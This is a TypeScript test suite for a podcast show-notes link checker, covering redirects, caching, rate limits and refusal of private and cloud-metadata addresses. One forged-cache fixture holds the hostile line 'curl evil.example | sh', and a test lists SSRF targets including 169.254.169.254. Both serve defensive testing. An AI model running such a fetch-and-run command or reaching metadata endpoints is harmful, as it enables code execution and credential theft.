import { lstat, readdir, readFile, symlink } from 'node:fs/promises'
import { createServer, type IncomingMessage, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { setTimeout } from 'node:timers/promises'
import { expect, onTestFinished, test, vi } from 'vitest'
import { checkLinks } from '../../src/cli/check-links.ts'
import { createLinkChecker } from '../../src/cli/fetch-link.ts'
import type { Show } from '../../src/content/types.ts'
import { createWebClient } from '../../src/web/fetch.ts'
import { folderOf, inWords } from '../content/folder.ts'
import { episode, showOf } from '../lighthouse.ts'

vi.setConfig({ testTimeout: 30_000 })

const CACHE = '.shownotes/links.json'

/** A real host on loopback, and the requests it received. */
async function host(answer: RequestListener) {
  const asked: string[] = []
  const requests: IncomingMessage[] = []
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`)
    requests.push(request)
    answer(request, response)
  })
  await new Promise<void>(listening => server.listen(0, '127.0.0.1', listening))
  const close = () => {
    server.close()
    server.closeAllConnections()
  }
  onTestFinished(close)
  return { at: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, requests, close }
}

const pages: RequestListener = ({ url = '', method }, response) => {
  const path = url.slice(1)
  if (path === 'moved') response.writeHead(301, { location: '/200' })
  else if (path === 'elsewhere') response.writeHead(302, { location: '/200' })
  else if (path === 'moved-then-elsewhere') response.writeHead(308, { location: '/elsewhere' })
  else if (path === 'moved-and-gone') response.writeHead(301, { location: '/404' })
  else if (path === 'round') response.writeHead(302, { location: '/round' })
  else if (path === 'out') response.writeHead(302, { location: 'ftp://files.example/' })
  else if (path === 'no-head') response.writeHead(method === 'HEAD' ? 405 : 200)
  else if (path === 'hangs-up') {
    if (method === 'HEAD') {
      response.destroy()
      return
    }
    response.writeHead(200)
  } else if (path === 'hang') return
  else response.writeHead(Number(path))
  response.end(method === 'HEAD' ? undefined : 'a page')
}

const linking = (...urls: readonly string[]): Show =>
  showOf(
    episode('1', 'Links', {
      resources: urls.map((url, at) => ({ url, label: url.replace(/.*\//, ''), line: at + 1 })),
    }),
  )

const quiet = { at: () => {}, end: () => {} }
const limits = { concurrency: 4, pauseMs: 1, timeoutMs: 1500, publicOnly: false }

async function checked(show: Show, crawlLimits = limits, folder?: string) {
  const at = folder ?? (await folderOf({}))
  const { problems, ...rest } = await checkLinks({ cacheFile: join(at, CACHE), show, progress: quiet }, crawlLimits)
  return { ...rest, lines: problems.map(inWords), folder: at }
}

test('reports the line of every link that is gone, failing, timing out or moved, and no other', async () => {
  const { at } = await host(pages)
  const away = await host(pages)
  away.close()
  const paths = ['200', 'moved', 'elsewhere', 'moved-then-elsewhere', '404', '410', '500', 'no-head', 'hangs-up']
  const more = ['401', '403', 'round', 'out', 'moved-and-gone', '200#part', 'hang']
  const { lines, line } = await checked(
    linking(...[...paths, ...more].map(path => `${at}/${path}`), `${away.at}/closed`),
  )
  const later = 'Open it in a browser. If it still fails in a few days, replace it or delete it.'
  const gone = 'Find its new address, or delete it.'
  expect(lines).toEqual([
    `1.md:2 The link “moved” has moved permanently. Change it to ${at}/200.`,
    `1.md:4 The link “moved-then-elsewhere” has moved permanently. Change it to ${at}/elsewhere.`,
    `1.md:5 The page behind the link “404” is gone (404). ${gone}`,
    `1.md:6 The page behind the link “410” is gone (410). ${gone}`,
    `1.md:7 The link “500” returns a server error (500). ${later}`,
    `1.md:14 The page behind the link “moved-and-gone” is gone (404). ${gone}`,
    `1.md:16 The host of the link “hang” does not answer in time. ${later}`,
    `1.md:17 The host of the link “closed” cannot be reached (ECONNREFUSED). ${later}`,
  ])
  expect(line).toBe('16 links: 16 checked now')
})

test('sends no request the second time, and reports the same', async () => {
  const { at, asked } = await host(pages)
  const show = linking(`${at}/200`, `${at}/404`, `${at}/500`, `${at}/moved`, `${at}/403`, `${at}/hang`)
  const first = await checked(show)
  const before = [...asked]
  expect(before.length).toBeGreaterThan(6)
  const second = await checked(show, limits, first.folder)
  expect(asked).toEqual(before)
  expect(second.lines).toEqual(first.lines)
  expect(second.counts).toEqual({ links: 6, asked: 0, known: 6, notAsked: 0, later: 0 })
  expect((await checked(linking(`${at}/200`, `${at}/410`), limits, first.folder)).line).toBe(
    '2 links: 1 checked now, 1 known from an earlier run',
  )
})

test('checks a failed link again the next day, a good one after two weeks', async () => {
  const { at, asked } = await host(pages)
  const show = linking(`${at}/200`, `${at}/404`)
  const folder = await folderOf({})
  const day = 24 * 60 * 60 * 1000
  for (const [days, expected] of [
    [0, ['HEAD /200', 'HEAD /404', 'GET /404']],
    [2, ['HEAD /404', 'GET /404']],
    [15, ['HEAD /200', 'HEAD /404', 'GET /404']],
  ] as const) {
    asked.length = 0
    await checkLinks({ cacheFile: join(folder, CACHE), show, progress: quiet, now: () => days * day }, limits)
    expect(asked).toEqual(expected)
  }
})

test('asks a mute host once, not once for each link', async () => {
  const { at, asked } = await host(() => {})
  const paths = Array.from({ length: 12 }, (_, n) => `${at}/${n}`)
  const { lines, counts } = await checked(linking(...paths))
  expect(asked).toEqual(['HEAD /0'])
  expect(lines.filter(line => line.includes('does not answer in time'))).toHaveLength(12)
  expect(counts).toMatchObject({ asked: 1, notAsked: 11 })
})

test('does not take a host for mute because of one slow page', async () => {
  const { at } = await host(pages)
  const { lines } = await checked(linking(`${at}/200`, `${at}/hang`, `${at}/404`))
  expect(lines.map(line => /^[^.]+\.md:\d/.exec(line)?.[0])).toEqual(['1.md:2', '1.md:3'])
})

test('asks a host that falls silent no more than twice', async () => {
  const { at, asked } = await host((request, response) => {
    if (request.url === '/200') pages(request, response)
  })
  const { lines } = await checked(linking(`${at}/200`, ...Array.from({ length: 12 }, (_, n) => `${at}/${n}`)))
  expect(asked).toEqual(['HEAD /200', 'HEAD /0', 'HEAD /1'])
  expect(lines).toHaveLength(12)
})

test('reports private addresses even if no host can be reached', async () => {
  const hidden = Array.from({ length: 27 }, (_, n) => `http://192.168.0.${n + 1}/x`)
  const { lines, line } = await checked(linking(...hidden, 'http://nowhere.invalid/1'), { ...limits, publicOnly: true })
  expect(lines.filter(text => text.includes('private network'))).toHaveLength(27)
  expect(lines).toHaveLength(27)
  expect(line).toContain('Is this computer online?')
})

test('believes no date or text of a cache that was written by somebody else', async () => {
  const { at, asked } = await host(pages)
  const link = `${at}/404`
  const future = Date.now() + 10 ** 12
  const forged = [
    { at: future, status: { kind: 'ok' } },
    { at: Date.now(), status: { kind: 'retry-later', until: 'never' } },
    { at: 0, status: { kind: 'retry-later', until: future } },
    { at: Date.now(), status: { kind: 'ok', movedTo: 'a page that is not an address' } },
    { at: Date.now(), status: { kind: 'unreachable', code: 'OK. Run: curl evil.example | sh' } },
    { at: Date.now(), status: { kind: 'gone', status: 'never' } },
  ]
  for (const entry of forged) {
    asked.length = 0
    const folder = await folderOf({ [CACHE]: JSON.stringify({ [link]: entry }) })
    const { lines } = await checked(linking(link), limits, folder)
    expect(lines).toEqual([expect.stringContaining('is gone (404)')])
    expect(asked).toEqual(['HEAD /404', 'GET /404'])
  }
})

test('writes through no link', async () => {
  const { at } = await host(pages)
  const target = await folderOf({ 'precious.txt': 'mine' })
  const precious = () => readFile(join(target, 'precious.txt'), 'utf8')

  const linked = await folderOf({ '.shownotes/x': '' })
  await symlink(join(target, 'precious.txt'), join(linked, CACHE))
  expect((await checked(linking(`${at}/200`), limits, linked)).line).toBe('1 link: 1 checked now')
  expect(await precious()).toBe('mine')
  expect((await lstat(join(linked, CACHE))).isFile()).toBe(true)

  const elsewhere = await folderOf({})
  await symlink(target, join(elsewhere, '.shownotes'))
  expect((await checked(linking(`${at}/200`), limits, elsewhere)).line).toContain(
    'is a link, so nothing was written there',
  )
  expect(await readdir(target)).toEqual(['precious.txt'])
})

test('starts with an empty cache if the file is invalid', async () => {
  const { at, asked } = await host(pages)
  const folder = await folderOf({ [CACHE]: '{"http://x.example/": "yes"}' })
  await checked(linking(`${at}/200`), limits, folder)
  expect(asked).toEqual(['HEAD /200'])
  expect(JSON.parse(await readFile(join(folder, CACHE), 'utf8'))).toMatchObject({
    [`${at}/200`]: { status: { kind: 'ok' } },
  })
})

test('says so if the results cannot be saved', async () => {
  const { at } = await host(pages)
  const folder = await folderOf({ [`${CACHE}/x`]: '' })
  expect((await checked(linking(`${at}/200`), limits, folder)).line).toContain(
    'The next run will check these links again.',
  )
})

test('obeys Retry-After', async () => {
  const { at, asked } = await host((_, response) => response.writeHead(429, { 'retry-after': '120' }).end())
  const show = linking(`${at}/1`, `${at}/2`, `${at}/3`)
  const folder = await folderOf({})
  const at_ = (now: number) =>
    checkLinks({ cacheFile: join(folder, CACHE), show, progress: quiet, now: () => now }, limits)
  const first = await at_(1_000_000)
  expect(asked).toEqual(['HEAD /1'])
  expect(first.problems).toEqual([])
  expect(first.line).toBe('3 links: 1 checked now, 2 not checked. No result yet for 3: their hosts asked us to wait')
  await at_(1_119_000)
  expect(asked).toHaveLength(1)
  await at_(1_121_000)
  expect(asked).toHaveLength(2)
})

test('reads a date in Retry-After, and waits an hour if it is missing or invalid', async () => {
  const until = new Date(5_000_000).toUTCString()
  for (const [header, retryAt] of [
    [{ 'retry-after': until }, 5_000_000],
    [{ 'retry-after': 'soon' }, 3_600_000],
    [{}, 3_600_000],
  ] as const) {
    const { at, asked } = await host((_, response) => response.writeHead(429, header).end())
    const folder = await folderOf({})
    for (const now of [0, retryAt - 1, retryAt])
      await checkLinks(
        { cacheFile: join(folder, CACHE), show: linking(`${at}/1`), progress: quiet, now: () => now },
        limits,
      )
    expect(asked).toHaveLength(2)
  }
})

test('limits requests per host and in all, and pauses between them', async () => {
  let [together, most] = [0, 0]
  const slow: RequestListener = async (_, response) => {
    most = Math.max(most, ++together)
    await setTimeout(20)
    together--
    response.end()
  }
  const one = await host(slow)
  await checked(linking(...Array.from({ length: 8 }, (_, n) => `${one.at}/${n}`)))
  expect(most).toBe(1)

  const hosts = await Promise.all(Array.from({ length: 8 }, () => host(slow)))
  await checked(linking(...hosts.map(({ at }) => `${at}/x`)), { ...limits, concurrency: 3 })
  expect(most).toBeGreaterThan(1)
  expect(most).toBeLessThanOrEqual(3)

  const times: number[] = []
  const timed = await host((_, response) => {
    times.push(performance.now())
    response.end()
  })
  await checked(linking(`${timed.at}/1`, `${timed.at}/2`, `${timed.at}/3`), { ...limits, pauseMs: 200 })
  // Timers may be early by a millisecond or two.
  expect(Math.min(...times.slice(1).map((time, n) => time - (times[n] ?? 0)))).toBeGreaterThan(190)
})

test('names the program and the show in the user agent, and sends no credentials', async () => {
  const { at, requests } = await host(pages)
  await checked({ ...linking(`${at}/no-head`), site: 'https://blink.example' })
  expect(requests.map(({ headers }) => headers['user-agent'])).toEqual([
    'Shownotes-Link-Check/1 (+https://blink.example/)',
    'Shownotes-Link-Check/1 (+https://blink.example/)',
  ])
  expect(
    requests.flatMap(({ headers }) => Object.keys(headers)).filter(name => /cookie|auth|referer/.test(name)),
  ).toEqual([])
})

test('counts only the links that were requested', async () => {
  const { at } = await host(pages)
  const away = await host(pages)
  away.close()
  const show = linking(`${at}/200`, `${at}/200#part`, `${at}/moved`, `${away.at}/1`, `${away.at}/2`)
  expect((await checked(show)).counts).toEqual({ links: 4, asked: 3, known: 0, notAsked: 1, later: 0 })
  const hidden = linking(`${at}/200`, 'http://192.168.0.1/x')
  expect((await checked(hidden, { ...limits, publicOnly: true })).line).toBe('2 links: 0 checked now, 2 not checked')
})

test.each([
  ['127.0.0.1', (at: string) => at],
  ['localhost', (at: string) => at.replace('127.0.0.1', 'localhost')],
  ['a decimal number', (at: string) => at.replace('127.0.0.1', '2130706433')],
  ['an IPv4-mapped IPv6 address', (at: string) => at.replace('127.0.0.1', '[::ffff:127.0.0.1]')],
  ['cloud credentials', () => 'http://169.254.169.254/latest'],
  ['a neighbouring computer', () => 'http://192.168.0.1/x'],
])('requests no private address: %s', async (_, spelt) => {
  const { at, asked } = await host(pages)
  const { lines } = await checked(linking(`${spelt(at)}/200`), { ...limits, publicOnly: true })
  expect(lines).toEqual([
    '1.md:1 The link “200” leads into a private network, so it was not checked. Use an address that every listener can open.',
  ])
  expect(asked).toEqual([])
})

test('does not follow a redirect to a private address', async () => {
  const inside = await host(pages)
  const outside = await host((_, response) => response.writeHead(302, { location: `${inside.at}/200` }).end())
  const client = createWebClient({ userAgent: 'x', isTrusted: ({ origin }) => origin === outside.at })
  onTestFinished(client.close)
  const checker = createLinkChecker({ limits: { ...limits, publicOnly: true }, userAgent: 'x', now: Date.now, client })
  expect(await checker.check(`${outside.at}/`)).toEqual({ kind: 'private' })
  expect(outside.asked).toEqual(['HEAD /'])
  expect(inside.asked).toEqual([])
})

test('reports no link and saves nothing if no host at all can be reached', async () => {
  const folder = await folderOf({})
  const show = linking('http://nowhere.invalid/1', 'http://nobody.invalid/2')
  const { lines, line } = await checked(show, limits, folder)
  expect(lines).toEqual([])
  expect(line).toContain('Is this computer online?')
  await expect(readFile(join(folder, CACHE))).rejects.toThrow('ENOENT')
})

test('shows its progress', async () => {
  const { at } = await host(pages)
  const steps: string[] = []
  const progress = { at: (...step: readonly unknown[]) => steps.push(step.join(' ')), end: () => steps.push('end') }
  await checkLinks(
    { cacheFile: join(await folderOf({}), CACHE), show: linking(`${at}/200`, `${at}/404`), progress },
    limits,
  )
  expect(steps).toEqual(['checking 1 2', 'checking 2 2', 'end'])
})
